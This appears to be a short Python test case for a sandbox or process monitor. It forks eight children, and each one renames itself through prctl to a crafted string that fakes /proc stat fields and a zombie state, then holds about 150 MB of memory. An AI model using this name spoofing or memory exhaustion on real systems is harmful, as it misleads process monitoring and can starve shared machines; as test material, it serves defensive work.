# title: children that give themselves the names of a process table
# status: out_of_memory
# %%
import ctypes
import os
import time

for _ in range(8):
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b") Z 1 1 1 0\n(", 0, 0, 0)
        held = b"x" * (150 * 2**20)
        time.sleep(30)
        os._exit(0)
time.sleep(8)
